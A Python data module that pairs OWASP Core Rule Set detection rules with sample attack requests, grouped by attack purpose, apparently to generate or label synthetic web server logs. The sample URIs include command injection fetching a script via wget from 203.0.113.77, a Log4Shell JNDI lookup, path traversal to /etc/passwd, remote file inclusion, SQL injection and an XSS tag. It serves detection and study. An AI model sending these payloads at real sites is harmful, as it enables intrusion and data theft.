"""What strangers try on the companies' web sites, and the rules of the OWASP Core Rule Set that notice it."""

from typing import NamedTuple


class Rule(NamedTuple):
    """A rule of the Core Rule Set: its number, what it says, its tag, and how grave it is (syslog's scale)."""

    number: str
    message: str
    tag: str
    severity: int


class Attempt(NamedTuple):
    method: str
    uri: str
    rules: tuple[Rule, ...]


CRITICAL, WARNING, NOTICE = 2, 4, 5

UNIX_COMMAND = Rule("932100", "Remote Command Execution: Unix Command Injection", "attack-rce", CRITICAL)
UNIX_SHELL = Rule("932160", "Remote Command Execution: Unix Shell Code Found", "attack-rce", CRITICAL)
TRAVERSAL = Rule("930100", "Path Traversal Attack (/../)", "attack-lfi", CRITICAL)
SYSTEM_FILE = Rule("930120", "OS File Access Attempt", "attack-lfi", CRITICAL)
REMOTE_FILE = Rule(
    "931130", "Possible Remote File Inclusion (RFI) Attack: Off-Domain Reference", "attack-rfi", CRITICAL
)
PHP_FUNCTION = Rule(
    "933150", "PHP Injection Attack: High-Risk PHP Function Name Found", "attack-injection-php", CRITICAL
)
PHP_UPLOAD = Rule("933110", "PHP Injection Attack: PHP Script File Upload Found", "attack-injection-php", CRITICAL)
SQL = Rule("942100", "SQL Injection Attack Detected via libinjection", "attack-sqli", CRITICAL)
SQL_UNION = Rule("942190", "Detects MSSQL code execution and information gathering attempts", "attack-sqli", CRITICAL)
SQL_SLEEP = Rule("942160", "Detects blind sqli tests using sleep() or benchmark()", "attack-sqli", CRITICAL)
LEAK = Rule("950130", "Directory Listing", "attack-disclosure", WARNING)
LOG4SHELL = Rule("944150", "Potential Remote Command Execution: Log4j / Log4shell", "CVE-2021-44228", CRITICAL)
SPRING4SHELL = Rule("944260", "Malicious class-loading payload: Spring4Shell", "CVE-2022-22965", CRITICAL)
OGNL = Rule("944110", "Java process spawn: OGNL expression", "CVE-2022-26134", CRITICAL)
XSS = Rule("941100", "XSS Attack Detected via libinjection", "attack-xss", CRITICAL)
XSS_SCRIPT = Rule("941110", "XSS Filter - Category 1: Script Tag Vector", "attack-xss", CRITICAL)
NODE = Rule("934100", "Node.js Injection Attack", "attack-injection-generic", CRITICAL)
SCANNER = Rule("913100", "Found User-Agent associated with security scanner", "attack-reputation-scanner", CRITICAL)
NUMERIC_HOST = Rule("920350", "Host header is a numeric IP address", "attack-protocol", WARNING)
NO_ACCEPT = Rule("920300", "Request Missing an Accept Header", "attack-protocol", NOTICE)
ANOMALY = Rule("949110", "Inbound Anomaly Score Exceeded (Total Score: 5)", "anomaly-evaluation", CRITICAL)
"""Sums up the others where the rule set runs in anomaly mode; says nothing of the purpose."""

BY_PURPOSE: dict[str, tuple[Attempt, ...]] = {
    "Webサイトの変造/偽造": (
        Attempt("GET", "/shell?cd+/tmp;wget+http://203.0.113.77/a.sh", (UNIX_COMMAND, UNIX_SHELL)),
        Attempt("GET", "/cgi-bin/.%2e/.%2e/.%2e/etc/passwd", (TRAVERSAL, SYSTEM_FILE)),
        Attempt("POST", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", (PHP_FUNCTION,)),
        Attempt("GET", "/index.php?page=http://203.0.113.77/x.txt", (REMOTE_FILE,)),
        Attempt("POST", "/wp-content/plugins/uploader/upload.php", (PHP_UPLOAD,)),
        Attempt("GET", "/wp-admin/admin-ajax.php?file=../../wp-config.php", (SYSTEM_FILE,)),
    ),
    "個人情報の漏えい": (
        Attempt("GET", "/products.php?id=1%27%20UNION%20SELECT%20user,pass--", (SQL, SQL_UNION)),
        Attempt("POST", "/contact/confirm.php", (SQL,)),
        Attempt("GET", "/news.php?no=5%20AND%20SLEEP(5)", (SQL_SLEEP,)),
        Attempt("GET", "/backup/", (LEAK,)),
    ),
    "新たな脆弱性": (
        Attempt("GET", "/?x=${jndi:ldap://203.0.113.77/a}", (LOG4SHELL,)),
        Attempt("POST", "/?class.module.classLoader.resources", (SPRING4SHELL,)),
        Attempt("GET", "/%24%7B%28exec%29%7D/", (OGNL,)),
    ),
    "悪意あるコード挿入": (
        Attempt("GET", "/search?q=%3Cscript%3Ealert(1)%3C/script%3E", (XSS, XSS_SCRIPT)),
        Attempt("POST", "/inquiry", (XSS,)),
        Attempt("POST", "/api/form", (NODE,)),
    ),
    "脆弱性スキャン": (Attempt("GET", "/admin/", (SCANNER,)), Attempt("GET", "/phpmyadmin/index.php", (SCANNER,))),
    "その他": (Attempt("GET", "/", (NUMERIC_HOST,)), Attempt("GET", "/robots.txt", (NO_ACCEPT,))),
}
"""The study's purpose of attack (section 6.2) to what is tried."""

PAGES = (
    "/", "/company/", "/products/", "/products/press/", "/news/", "/recruit/", "/contact/", "/access/",
    "/img/logo.png", "/img/main.jpg", "/css/style.css", "/js/main.js", "/favicon.ico", "/sitemap.xml",
)  # fmt: skip
BROWSERS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64)",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 16_1 like Mac OS X)",
    "Mozilla/5.0 (Linux; Android 13)",
    "Mozilla/5.0 (compatible; SearchBot/2.1; +http://search.example/bot)",
)
TOOLS = ("python-requests/2.28.1", "curl/7.68.0", "Go-http-client/1.1", "Mozilla/5.0 zgrab/0.x")
